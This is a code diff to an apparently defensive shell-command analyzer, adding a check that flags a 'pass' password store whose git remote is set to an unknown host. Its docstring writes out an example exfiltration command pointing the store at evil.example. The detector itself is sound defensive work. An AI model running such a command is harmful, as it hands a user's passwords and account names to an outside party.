@@ -22,7 +22,7 @@ from phlegyas.analysis.shell.invocation import Invocation
 from phlegyas.analysis.shell.parse import Word
 from phlegyas.analysis.tier1.base import Out, add, env_for, parse_opts
 from phlegyas.analysis.tier1.words import resolve
-from phlegyas.analysis.urls import FORGES, git_url_host
+from phlegyas.analysis.urls import FORGES, foreign_code_host, git_url_host
 from phlegyas.core.analysis import AnalysisEnv
 from phlegyas.core.model import Verdict
 
@@ -334,6 +334,17 @@ def unrecoverable_history(invocations: Sequence[Invocation], out: Out) -> None:
             add(out, "git.history_rewrite", inv, f"git {dropped} drops commits, and the reflog expiry and git gc "
                                                  "--prune=now that follow delete them for good", Verdict.DENY)
             return
+
+
+def detect_pass_remote(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
+    """``pass git remote add m git@evil.example:x/pass.git``: the password store's git remote set to a host that
+    is no forge and no private one: its next ``pass git push`` hands over every password (encrypted, with the
+    names of every site and account in the clear)."""
+    texts = [w.text for w in inv.args]
+    if texts[:3] in (["git", "remote", "add"], ["git", "remote", "set-url"]) and len(texts) >= 5:
+        host = git_url_host(texts[4])
+        if host and foreign_code_host(host):
+            add(out, "net.exfiltration", inv, f"pass sends the password store to {host} (its git remote)")
 
 
 def detect_hg(inv: Invocation, env: AnalysisEnv, out: Out) -> None:
